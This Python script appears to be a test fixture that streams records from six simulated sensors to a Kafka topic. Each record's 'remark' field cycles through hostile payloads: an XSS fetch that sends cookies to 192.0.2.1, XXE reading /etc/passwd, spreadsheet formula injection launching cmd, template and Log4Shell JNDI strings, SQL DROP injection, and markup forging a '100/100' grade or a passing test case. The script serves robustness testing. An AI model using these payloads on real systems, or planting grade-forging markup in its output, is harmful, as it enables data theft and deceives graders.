"""Six honest sensors with strange things in their records."""

import itertools
import json
import time

from kafka import KafkaProducer
from records import BOOTSTRAP_SERVERS, TOPIC, encode, sample

MARKUP = itertools.cycle([
    "<script>document.body.innerHTML='<h1>100/100</h1>'</script>",
    "<img src=x onerror=\"fetch('http://192.0.2.1/'+document.cookie)\">",
    "</td></tr></table></pre></code></details><h1>100/100</h1><!--",
    "]]></system-out><testcase name=\"ex4.3\"/><system-out><![CDATA[",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "```\n# 100/100\n| ex4.3 | passed | 6 |\n```",
    "[your grade](javascript:alert(1)) ![x](http://192.0.2.1/pixel.png) @everyone #1 https://192.0.2.1",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"grade\")",
    "=cmd|' /C calc'!A0",
    "+1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for x in range(9) %}${7*7}#{7*7}<%= 7*7 %>",
    "${jndi:ldap://127.0.0.1:1389/a} %(secret)s {0.__globals__} %n%n%n",
    "'; DROP STREAM STREAM_INGESTION; --",
])


def main():
    producer = KafkaProducer(bootstrap_servers=BOOTSTRAP_SERVERS, acks="all")
    while True:
        for sensor in range(1, 7):
            record = json.loads(encode(sample(sensor)))
            record["remark"] = next(MARKUP)
            producer.send(TOPIC, key=str(sensor).encode(), value=json.dumps(record).encode())
            print("sent", record, flush=True)
        producer.flush()
        time.sleep(1)


main()
